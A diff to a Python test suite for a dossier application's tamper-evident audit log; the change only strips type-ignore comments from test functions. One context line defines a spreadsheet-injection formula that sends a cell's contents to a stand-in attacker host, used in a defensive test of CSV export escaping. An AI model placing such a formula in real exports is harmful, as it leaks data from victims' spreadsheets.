@@ -25,7 +25,7 @@ from tests.conftest import PASSWORD, login_actor, wipe
 from tests.support import as_database_owner
 
 
-def test_the_owners_previous_visit_is_found_by_her_own_visits(shared_world, engine) -> None:  # type: ignore[no-untyped-def]
+def test_the_owners_previous_visit_is_found_by_her_own_visits(shared_world, engine) -> None:
     """ "Who looked since your last visit" asks for her visit before this one. The planner must
     search her visits to this dossier, not walk every dossier's visits newest first until it
     has seen two of hers (PostgreSQL is told to avoid reading whole tables, as it would on a
@@ -33,7 +33,7 @@ def test_the_owners_previous_visit_is_found_by_her_own_visits(shared_world, engi
     w = shared_world
     ran: list[tuple[str, object]] = []
 
-    def remember(_conn, _cursor, statement, parameters, _context, _many) -> None:  # type: ignore[no-untyped-def]
+    def remember(_conn, _cursor, statement, parameters, _context, _many) -> None:
         ran.append((statement, parameters))
 
     event.listen(engine, "before_cursor_execute", remember)
@@ -53,7 +53,7 @@ def test_the_owners_previous_visit_is_found_by_her_own_visits(shared_world, engi
     assert "ix_audit_events_dossier_actor_action_at" in plan
 
 
-def test_the_owner_reads_who_looked_in_plain_words(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_the_owner_reads_who_looked_in_plain_words(shared_world) -> None:
     w = shared_world
     ctx = w["ctx"]
     dossiers.get_dossier(ctx, w["sanne"], w["dossier"])  # a first visit
@@ -75,7 +75,7 @@ def test_the_owner_reads_who_looked_in_plain_words(shared_world) -> None:  # typ
     assert later.items == []
 
 
-def test_the_auditor_finds_exports_and_verifies_without_content(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_the_auditor_finds_exports_and_verifies_without_content(shared_world) -> None:
     w = shared_world
     ctx = w["ctx"]
     page = audit_views.search(
@@ -113,7 +113,7 @@ def test_the_auditor_finds_exports_and_verifies_without_content(shared_world) ->
         audit_views.search(ctx, w["anne"], audit_views.EventFilters())
 
 
-def test_denied_attempts_are_logged_on_their_own(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_denied_attempts_are_logged_on_their_own(shared_world) -> None:
     w = shared_world
     ctx = w["ctx"]
     with pytest.raises(AccessDenied):
@@ -126,12 +126,12 @@ def test_denied_attempts_are_logged_on_their_own(shared_world) -> None:  # type:
     assert {"audit.search", "dossier.open"} <= set(denied)
 
 
-def test_reads_fail_closed_when_the_log_cannot_be_written(shared_world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_reads_fail_closed_when_the_log_cannot_be_written(shared_world, monkeypatch) -> None:
     import dossier.services.work as module
 
     w = shared_world
 
-    def broken(*_args, **_kwargs):  # type: ignore[no-untyped-def]
+    def broken(*_args, **_kwargs):
         raise RuntimeError("log store down")
 
     monkeypatch.setattr(module, "append", broken)
@@ -139,7 +139,7 @@ def test_reads_fail_closed_when_the_log_cannot_be_written(shared_world, monkeypa
         entries.read_entry(w["ctx"], w["sanne"], w["dossier"], w["plan"])
 
 
-def _tamper(engine, statement) -> None:  # type: ignore[no-untyped-def]
+def _tamper(engine, statement) -> None:
     with as_database_owner(engine) as connection:
         connection.execute(statement)
 
@@ -151,12 +151,12 @@ def _events(ctx: Context, chain: str) -> list[AuditEvent]:
         )
 
 
-def _report(ctx: Context):  # type: ignore[no-untyped-def]
+def _report(ctx: Context):
     with ctx.unit_of_work() as db:
         return verify(db, ctx.audit_key.public_key().public_bytes_raw())
 
 
-def test_one_tamper_of_each_kind_is_caught_and_named(shared_world, engine) -> None:  # type: ignore[no-untyped-def]
+def test_one_tamper_of_each_kind_is_caught_and_named(shared_world, engine) -> None:
     ctx = shared_world["ctx"]
     chain = chain_for(shared_world["dossier"])
     audit_views.checkpoint(ctx)
@@ -267,7 +267,7 @@ def test_one_tamper_of_each_kind_is_caught_and_named(shared_world, engine) -> No
     check("signature is not valid", "checkpoint:1")
 
 
-def test_cli_verify_fails_and_names_an_edited_row(shared_world, engine, app, keys_dir) -> None:  # type: ignore[no-untyped-def]
+def test_cli_verify_fails_and_names_an_edited_row(shared_world, engine, app, keys_dir) -> None:
     env = {
         "DOSSIER_DATABASE_URL": app.extensions["dossier"]["settings"].database_url,
         "DOSSIER_KEYS_DIR": str(keys_dir),
@@ -307,7 +307,7 @@ def test_checkpoints_come_when_due(keyed: Context) -> None:
     assert made is not None and made.number == 2
 
 
-def test_postgres_refuses_to_change_the_log(apps, keys_dir, clock) -> None:  # type: ignore[no-untyped-def]
+def test_postgres_refuses_to_change_the_log(apps, keys_dir, clock) -> None:
     """On PostgreSQL only: that is where the triggers live (SQLite has no such thing)."""
     state = apps["postgresql"].extensions["dossier"]
     engine = state["engine"]
@@ -353,7 +353,7 @@ def test_writers_on_many_dossiers_at_once_leave_intact_chains(keyed: Context, en
         )
     errors: list[BaseException] = []
 
-    def write(owner, dossier, count: int) -> None:  # type: ignore[no-untyped-def]
+    def write(owner, dossier, count: int) -> None:
         try:
             for index in range(count):
                 entries.write_entry(
@@ -384,7 +384,7 @@ def test_writers_on_many_dossiers_at_once_leave_intact_chains(keyed: Context, en
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Anne")'
 
 
-def test_the_csv_export_shows_formulas_as_text_and_the_json_keeps_them(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_the_csv_export_shows_formulas_as_text_and_the_json_keeps_them(shared_world) -> None:
     """OWASP CSV injection: a name that a spreadsheet would run reaches the auditor as text."""
     import csv
     import io
@@ -415,7 +415,7 @@ def _logged(ctx: Context, action: str) -> list[AuditEvent]:
         )
 
 
-def test_listing_dossiers_reads_their_names_and_logs_it_in_each_dossier(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_listing_dossiers_reads_their_names_and_logs_it_in_each_dossier(shared_world) -> None:
     w = shared_world
     ctx = w["ctx"]
     brother = dossiers.create_dossier(ctx, w["marieke"], "Tim", date(2016, 5, 1), for_self=False)
@@ -446,7 +446,7 @@ def test_listing_dossiers_reads_their_names_and_logs_it_in_each_dossier(shared_w
     assert _report(ctx).ok
 
 
-def test_every_use_case_that_hands_out_names_logs_one_event(shared_world) -> None:  # type: ignore[no-untyped-def]
+def test_every_use_case_that_hands_out_names_logs_one_event(shared_world) -> None:
     w = shared_world
     ctx = w["ctx"]
     before = {action: len(_logged(ctx, action)) for action in ("dossier.open", "dossier.create")}
